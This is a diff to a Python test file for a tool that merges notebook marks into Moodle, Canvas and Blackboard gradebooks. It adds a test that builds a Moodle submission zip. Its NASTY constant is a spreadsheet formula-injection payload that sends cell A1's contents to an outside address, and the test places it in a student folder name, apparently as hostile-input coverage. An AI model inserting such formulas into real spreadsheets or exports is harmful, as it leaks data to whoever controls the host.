@@ -2,16 +2,19 @@
 
 import csv
 import io
+import zipfile
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from made_up import as_bytes, worked, wrong
 
 from nhsreform import cli
 from nhsreform.marking import gradebooks, reading
 from nhsreform.marking.gradebooks import BLACKBOARD, CANVAS, MOODLE, SheetError, merge
 from nhsreform.marking.reading import Mark
 
+ONE = "01-joint-report"
 NASTY = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
 LONG = "N" * 300
 
@@ -351,3 +354,30 @@ def test_the_command_says_by_its_exit_code_that_somebody_is_left_out(tmp_path, c
     (tmp_path / "out" / "marks.csv").unlink()
     assert cli.main([*command, "--out", str(tmp_path / "other.csv")]) == 2
     assert not (tmp_path / "other.csv").exists()
+
+
+def test_from_moodles_zip_to_moodles_worksheet(tmp_path, mark):
+    handed_in = {
+        "Ada Lovelace_101": worked(ONE),
+        "Ada Lovelace_103": wrong(ONE),
+        f"{NASTY.replace('/', '')}_105": worked(ONE),
+    }
+    with zipfile.ZipFile(tmp_path / "moodle.zip", "w") as archive:
+        for folder, notebook in handed_in.items():
+            archive.writestr(f"{folder}_assignsubmission_file_/{ONE}.ipynb", as_bytes(notebook))
+    mark(tmp_path / "moodle.zip", tmp_path / "out")
+    (tmp_path / "sheet.csv").write_bytes(MOODLE_FILE.replace(b"9.00", b"4.00"))
+    command = [
+        "gradebook",
+        "--platform",
+        "moodle",
+        "--sheet",
+        str(tmp_path / "sheet.csv"),
+        "--marks",
+        str(tmp_path / "out"),
+    ]
+    assert cli.main([*command, "--out", str(tmp_path / "new.csv")]) == 0
+    # Namesakes are told apart by number, and a name whose signs were left out of the zip is still known.
+    assert dict(enumerate(column((tmp_path / "new.csv").read_bytes(), "Grade"))) == {
+        0: "4", 1: "", 2: "0", 3: "", 4: "4", 5: "", 6: "7.00",
+    }  # fmt: skip
